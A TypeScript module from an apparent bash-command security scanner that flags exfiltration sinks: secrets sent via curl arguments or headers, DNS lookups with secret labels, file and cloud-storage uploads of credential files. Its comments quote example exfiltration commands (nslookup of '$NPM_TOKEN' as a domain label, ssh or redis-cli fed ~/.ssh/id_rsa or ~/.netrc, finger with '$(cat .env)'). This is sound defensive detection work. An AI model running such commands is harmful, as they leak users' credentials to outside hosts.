// A network command's own sinks: secrets in its arguments, headers or stdin, DNS lookups carrying data, uploads, and
// other programs handed a host and a secret (split from bash-pipeline.ts, code unchanged).

import { containerOwnCredentials } from "./bash-container-creds.ts";
import { resolverSetting } from "./bash-resolver-settings.ts";
import type { Hit } from "./types.ts";
import { PAT_VAR } from "./vcs-secrets43.ts";
import {
  CODE_RUNNERS,
  DNS,
  ENV_INLINE,
  LOCAL_ONLY,
  LOCAL_URL,
  NET,
  RAW_IP_URL,
  SENSITIVE_PATH,
  SENSITIVE_VAR,
  SINK_AFTER_SOURCE,
  URL_RE,
  hit,
  isNetwork,
  systemFileToIp,
} from "./bash-facts.ts";
import {
  headerData,
  LOGIN_SOURCE_EQ,
  LOGIN_SOURCE_OPT,
  LOGIN_VALUE_OPT,
  outboundData,
  STORE_READ_LOGIN,
  FILE_READ_LOGIN,
} from "./bash-outbound.ts";
import { loginKeysOff } from "./code-login-keys.ts";
import { authHeadersOff } from "./code-auth-headers.ts";
import { hostOf } from "./shell-flow.ts";
import {
  AUTH_HELPER,
  helperToken,
  literalHost,
  oauthExchange,
  tokenHostHits,
  urlPath,
} from "./bash-pipeline-tokens.ts";
import { substitutedSecret } from "./shell-secret-reads.ts";
import { isLoopback, secretVars, worstVerdict } from "./shell-token-hosts.ts";
import { onlyResolvedAddresses } from "./bash-dns-resolved38.ts";
import type { Word } from "./shell-parse.ts";
import type { Stage } from "./shell-words.ts";
import { KEY_USE_FLAG, KEY_USE_JOINED } from "./release-secrets.ts";
import { inPlaceTargets } from "./inplace-targets42.ts";

/** a bare public IP address (not loopback, private, link-local or documentation-local): no API keeps tokens there */
const PUBLIC_IP =
  /(?:^|[\s/@"'=])(?!(?:127|10|0)\.|192\.168\.|172\.(?:1[6-9]|2\d|3[01])\.|169\.254\.)(?:\d{1,3}\.){3}\d{1,3}(?=[:/\s"']|$)/;

/**
 * A secret-named variable (whole or a slice) as a label of a looked-up name, `nslookup "$NPM_TOKEN.t.example"`: the
 * name's zone reads it. A DNS name carries no credential to its owner, so no owner check applies; names of where to
 * look (`$AUTH_HOST`, `$SESSION_DOMAIN`) are not secrets.
 */
const DNS_SECRET_LABEL = new RegExp(
  `${SENSITIVE_VAR.source.replace(/\\\}\?$/, "")}(?<!(?:HOST|SERVER|DOMAIN|ZONE|NAME|PREFIX|REGION|URL|ENDPOINT|ID))(?::[^{}s]{1,24})?}?.[A-Za-z0-9-]+.[A-Za-z]`,
);

/** a substitution that prints a secret variable (a slice, an encoding of it) as the first labels of a looked-up name */
const SUBSTITUTED_LABEL = /\$\(([^()]{1,200})\)\.[A-Za-z0-9-]{1,63}\.[A-Za-z]/;
function substitutedLabel(data: string): string | undefined {
  const m = SUBSTITUTED_LABEL.exec(data);
  return m && SENSITIVE_VAR.test(m[1] as string) ? m[0] : undefined;
}

/** A network command whose own arguments, headers or stdin carry a secret, a DNS lookup carrying data, a file upload. */
export function sinkArgHits(s: Stage, src: string, hits: Hit[]): void {
  const { cmd, name } = s;
  const at = (w?: Word): [number, number] => (w ? [w.start, w.end] : [cmd.start, cmd.end]);
  if (isNetwork(s) || DNS.has(name)) {
    // (an inline program's ssh key given to its SSH client as the login identity is used, as `scp -i KEY` is)
    const data = oauthExchange(CODE_RUNNERS.has(name) ? loginKeysOff(outboundData(s)) : outboundData(s), s.text);
    const [st] = at(s.argv[0]);
    const stdin = cmd.redirects.find((r) => r.op === "<" && SENSITIVE_PATH.test(r.target.text));
    const fed = fedSecret(cmd.stdin);
    // a header may carry an API token ($TOKEN), but not the output of a command that reads secrets
    // (a CLI's token helper in an auth header, `Authorization: token $(gh auth token)`, is that token: auth, not data)
    // (an interpreter's own options are no curl options: `node -e CODE` is not a referer header; its code is read below)
    const headers = (CODE_RUNNERS.has(name) ? "" : headerData(s)).replace(
      AUTH_HELPER,
      (all: string, head: string) => `${head}$${helperToken(all.slice(head.length))}`,
    );
    const headerSecret = /\$\(|`/.test(headers)
      ? (SENSITIVE_PATH.exec(headers)?.[0] ?? ENV_INLINE.exec(headers)?.[0])
      : PUBLIC_IP.test(s.text)
        ? SENSITIVE_VAR.exec(headers)?.[0]
        : undefined;
    const host = hostOf(s);
    // a secret-named variable in the data, the URL or its query goes to its owner's host, or to one the command takes
    // from a variable ($API_URL): the token used as designed, not sent away
    const dataVar = SENSITIVE_VAR.exec(data)?.[0] ?? PAT_VAR.exec(data)?.[0];
    const path = urlPath(s.text);
    const varSent =
      dataVar && worstVerdict(secretVars(data), literalHost(s, host), path) !== "owner" ? dataVar : undefined;
    // inline code's auth header from one named variable is judged by the token's owner, as the code scan does
    const envData = CODE_RUNNERS.has(name) ? authHeadersOff(data) : data;
    const secret =
      SENSITIVE_PATH.exec(data)?.[0] ??
      ENV_INLINE.exec(envData)?.[0] ??
      substitutedSecret(envData) ??
      varSent ??
      (DNS.has(name) ? (DNS_SECRET_LABEL.exec(data)?.[0] ?? substitutedLabel(data)) : undefined) ??
      headerSecret ??
      stdin?.target.text ??
      fed;
    if (!secret) tokenHostHits(s, headers, literalHost(s, host), path, st, hits);
    if (secret) {
      hits.push(
        hit(
          "bash.exfil-args",
          "bash_exfil",
          0.93,
          st,
          cmd.end,
          `${secret.trim()} → ${name}${host ? ` to ${host}` : ""}`,
        ),
      );
    } else if (
      DNS.has(name) &&
      name !== "getent" &&
      !resolverSetting(s) &&
      /\$\(|`/.test(data) &&
      !onlyResolvedAddresses(data)
    ) {
      // (resolvectl's settings verbs, `resolvectl revert "$(cat …/ifindex)"`, look nothing up: bash-resolver-settings.ts)
      // (getent also looks up users and groups, `getent passwd "$(whoami)"`: only a secret read makes its name a leak)
      hits.push(hit("bash.exfil-dns", "bash_exfil", 0.9, st, cmd.end));
    } else if (
      NET.has(name) &&
      /(?:^|\s)(?:(?:-F|--form|-T|--upload-file|--data-binary|-d|--data)(?:\s|=)?\S{0,3}@|--(?:post|body)-file(?:\s|=)\S)/.test(
        data,
      )
    ) {
      const url = URL_RE.exec(data)?.[0] ?? "";
      // a system file posted to a bare IP address is what exfiltration looks like; a file to an API is ordinary
      const system = systemFileToIp(src);
      if (!LOCAL_URL.test(url))
        hits.push(
          hit(
            "bash.upload-file",
            "bash_exfil",
            system ? 0.86 : RAW_IP_URL.test(url) || /^http:/i.test(url) ? 0.62 : 0.45,
            st,
            cmd.end,
            `file uploaded by ${name}${hostOf(s) ? ` to ${hostOf(s)}` : ""}`,
          ),
        );
    }
  }
}

/** A cloud storage client's upload: its source arguments go to a bucket, a container or a remote of the account. */
const CLOUD_UPLOAD =
  /^(?:(?:npx|bunx|pnpx)\s+(?:-y\s+|--yes\s+)?)?(?:az\s+storage\s+(?:blob|file)\s+upload(?:-batch)?|azcopy\s+(?:copy|cp|sync)|mc\s+(?:cp|mirror|put)|gsutil\s+(?:-[mq]\s+){0,2}(?:cp|rsync|mv)|gcloud\s+storage\s+(?:cp|rsync)|aws\s+s3\s+(?:cp|sync|mv)|s3cmd\s+(?:put|sync)|rclone\s+(?:copy|copyto|sync|move)|b2\s+(?:upload-file|file\s+upload)|oci\s+os\s+object\s+put|wrangler\s+r2\s+object\s+put)\b/;

/** A mailer or ssh fed a secret on stdin; a cloud upload of a secret file; any other program given a host and a secret. */
export function otherSinkHits(s: Stage, hits: Hit[]): void {
  const { cmd, name } = s;
  // a credential file uploaded to cloud storage (mc cp ~/.kube/config …, az storage blob upload -f .env.production …):
  // storage is a place others read; build outputs and reports uploaded the same way name no secret
  if (CLOUD_UPLOAD.test(s.argv.map((w) => w.text).join(" "))) {
    const secret = s.argv
      .slice(1)
      .map((w) => w.text)
      .find((t) => SENSITIVE_PATH.test(t));
    if (secret) {
      hits.push(hit("bash.exfil-file", "bash_exfil", 0.92, cmd.start, cmd.end, `${secret} → ${name} (cloud storage)`));
      return;
    }
  }
  // ssh, mail, sendmail … fed a secret file on stdin (ssh host 'cat > x' < ~/.ssh/id_rsa)
  if (SINK_AFTER_SOURCE.has(name) && !isNetwork(s)) {
    const stdin = cmd.redirects.find((r) => r.op === "<" && SENSITIVE_PATH.test(r.target.text));
    if (stdin)
      hits.push(
        hit(
          "bash.exfil-args",
          "bash_exfil",
          0.93,
          cmd.start,
          cmd.end,
          `${stdin.target.text} → ${name}${hostOf(s) ? ` to ${hostOf(s)}` : ""}`,
        ),
      );
  }
  // any other program given a remote host and a secret (finger "$(cat .env)"@host, lp /etc/shadow -h host, hping3 --file …,
  // mosquitto_pub -h host -f .env, redis-cli -h host -x set k < ~/.netrc): the remote and the data make it a sink
  if (!isNetwork(s) && !DNS.has(name) && !LOCAL_ONLY.has(name)) {
    const redirected = cmd.redirects.find((r) => r.op === "<" && SENSITIVE_PATH.test(r.target.text))?.target.text;
    const edited = inPlaceTargets(s);
    const args = s.argv
      .slice(1)
      .filter(
        (_w, i, a) =>
          !(
            i > 0 &&
            (/^-(?:i|C|k|-identity|F)$/.test(a[i - 1].text) ||
              KEY_USE_FLAG.test(a[i - 1].text) ||
              LOGIN_SOURCE_OPT.test(a[i - 1].text))
          ),
      )
      // a client's own login file (`mysql --defaults-extra-file=F`, `nats --creds F`) is read for its login, not sent;
      // a secret manager's read given as the client's login option is its password (bash-outbound.ts)
      .filter((w) => !LOGIN_SOURCE_EQ.test(w.text))
      .filter(
        (w, i, a) =>
          !(
            (STORE_READ_LOGIN.test(w.text) || (FILE_READ_LOGIN.test(w.text) && !SENSITIVE_PATH.test(w.text))) &&
            (/^--[\w-]+=/.test(w.text) || LOGIN_VALUE_OPT.test(a[i - 1]?.text ?? ""))
          ),
      )
      // a signing or upload tool's key flag names the key it signs with (release-secrets.ts), not data
      .filter((w) => !KEY_USE_JOINED.test(w.text) && !edited.includes(w.text))
      // an identity file inside a carried ssh command (--ssh-cmd 'ssh -i ~/.ssh/key') is a key used, not sent
      .map((w) => w.text.replace(/(?:^|\s)-i\s+\S+/g, " "))
      .join(" ");
    const data = `${CODE_RUNNERS.has(name) ? loginKeysOff(args) : args} ${redirected ?? ""} ${fedSecret(cmd.stdin) ?? ""}`;
    const secret =
      SENSITIVE_PATH.exec(data)?.[0] ??
      /\$\(\s{0,3}(?:env|printenv|cat\s+[^)]{0,40}\.env)[^)]{0,40}\)/.exec(data)?.[0] ??
      substitutedSecret(data);
    const host = secret ? hostOf(s) : null;
    if (
      secret &&
      // a loopback address is this machine (`docker run -p 127.0.0.1:3000:3000 --env-file .env`: a port it listens on)
      !isLoopback(host) &&
      // a cloud CLI's container given that CLI's own credential folder reads its config (bash-container-creds.ts)
      !containerOwnCredentials(s) &&
      // a key minted into a file names its output and its account, not a destination (a hand-off: cloud-grants47.ts)
      !(name === "gcloud" && /\bservice-accounts\s+keys\s+create\b/.test(s.text)) &&
      // ssh's remote command names the remote host's files; only a local substitution sends a local secret
      (name !== "ssh" || /\$\(|`/.test(data)) &&
      host &&
      (/^(?:\d{1,3}\.){3}\d{1,3}$/.test(host) ||
        /@|(?:^|\s)-h\s|:\d{2,5}\b|\\\\/.test(data) ||
        /\.(?:com|net|org|io|dev|xyz|ru|cn|site|online|top|example)$/i.test(host))
    ) {
      hits.push(hit("bash.exfil-args", "bash_exfil", 0.9, cmd.start, cmd.end, `${secret.trim()} → ${name} to ${host}`));
    }
  }
}

/** A here-string or heredoc whose text a substitution fills from a secret (`<<< "$(printenv)"`, `<<< "$(< ~/.npmrc)"`). */
function fedSecret(stdin: Word[]): string | undefined {
  for (const w of stdin) {
    if (!/\$\(|`/.test(w.text)) continue;
    const found = ENV_INLINE.exec(w.text)?.[0] ?? SENSITIVE_PATH.exec(w.text)?.[0];
    if (found) return found;
  }
  return undefined;
}
